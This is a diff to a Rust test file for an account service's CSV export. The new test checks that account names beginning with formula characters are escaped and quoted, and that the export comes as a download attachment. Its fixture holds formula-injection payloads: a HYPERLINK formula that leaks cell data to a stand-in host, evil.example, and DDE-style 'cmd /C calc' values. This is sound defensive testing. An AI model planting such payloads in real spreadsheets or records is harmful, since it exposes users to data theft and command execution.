@@ -82,6 +82,11 @@ fn serve(accounts: usize, env: &[(&str, &str)]) -> Served {
 /// [`serve`], with the open-file limit set to `open_files` if given (`ulimit -n`), and `flood`
 /// more bad lines.
 fn serve_limited(accounts: usize, env: &[(&str, &str)], open_files: Option<u32>, flood: usize) -> Served {
+    serve_prepared(accounts, env, open_files, flood, |_| {})
+}
+
+/// [`serve_limited`], with `prepare` run on the generated data directory before the replay.
+fn serve_prepared(accounts: usize, env: &[(&str, &str)], open_files: Option<u32>, flood: usize, prepare: impl FnOnce(&Path)) -> Served {
     let dir = tempfile::tempdir().unwrap();
     let data = dir.path().join("data");
     let out = dir.path().join("out");
@@ -94,6 +99,8 @@ fn serve_limited(accounts: usize, env: &[(&str, &str)], open_files: Option<u32>,
     for i in 0..flood {
         writeln!(f, r#"{{"account_id":"a{i}","user_id":"u","event":"login","ts":"soon"}}"#).unwrap();
     }
+    drop(f);
+    prepare(&data);
     let addr = format!("127.0.0.1:{}", free_port());
     let log = dir.path().join("kizashi.log");
     let mut cmd = match open_files {
@@ -505,4 +512,55 @@ fn history_holds_the_daily_scores_and_the_alerts() {
     }
     let tickets = d["open_tickets"].as_array().unwrap();
     assert_eq!(tickets.len() as u64, d["open_ticket_count"].as_u64().unwrap().min(20));
+}
+
+/// Account names as a CRM might hold them, each starting with a character that makes a
+/// spreadsheet run the cell as a formula, and how the CSV export writes each: behind a `'`, then
+/// quoted where the cell holds a quote, a comma or a line break.
+const FORMULA_NAMES: [(&str, &str); 6] = [
+    ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")", "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Open\"\")\""),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("\tTabbed Corp", "'\tTabbed Corp"),
+    ("\rReturned Corp", "\"'\rReturned Corp\""),
+];
+
+#[test]
+fn the_csv_export_defuses_formulas_in_names_and_comes_as_an_attachment() {
+    // The first six accounts get the hostile names, in every record of theirs.
+    let mut s = serve_prepared(20, &[], None, 0, |data| {
+        let path = data.join("accounts.jsonl");
+        let text = std::fs::read_to_string(&path).unwrap();
+        let mut out = String::new();
+        for line in text.lines() {
+            let mut v: Value = serde_json::from_str(line).unwrap();
+            let id = v["account_id"].as_str().unwrap().to_string();
+            if let Some((name, _)) = id.strip_prefix("acct-0000").and_then(|n| n.parse::<usize>().ok()).and_then(|i| FORMULA_NAMES.get(i)) {
+                v["name"] = Value::from(*name);
+            }
+            out.push_str(&format!("{v}\n"));
+        }
+        std::fs::write(&path, out).unwrap();
+    });
+    s.wait_ready();
+    let (st, raw) = raw_get(&s.addr, "/v1/accounts?limit=1000&format=csv", "Accept: text/csv");
+    assert_eq!(st, 200, "{raw}");
+    let (head, csv) = raw.split_once("\r\n\r\n").unwrap();
+    let head = head.to_ascii_lowercase();
+    assert!(head.contains("\r\ncontent-disposition: attachment; filename=\"kizashi-accounts.csv\"\r\n"), "{head}");
+    assert!(head.contains("\r\ncontent-type: text/csv"), "{head}");
+    assert!(head.contains("\r\nx-content-type-options: nosniff\r\n"), "{head}");
+    for (i, (name, written)) in FORMULA_NAMES.iter().enumerate() {
+        let id = format!("acct-0000{i}");
+        // The JSON keeps the name as the CRM wrote it.
+        let (_, d) = get_json(&s.addr, &format!("/v1/accounts/{id}"), None);
+        assert_eq!(d["facts"]["name"], *name, "{d}");
+        let cell = format!(",{id},{written},");
+        assert!(csv.contains(&cell), "`{cell}` not in the CSV:\n{csv}");
+    }
+    // The hostile names did not break the rows apart: a header and a line per account.
+    let (_, q) = get_json(&s.addr, "/v1/accounts?limit=1000", None);
+    let lines = csv.split("\r\n").filter(|l| !l.is_empty()).count();
+    assert_eq!(lines as u64, q["total"].as_u64().unwrap() + 1, "{csv}");
 }
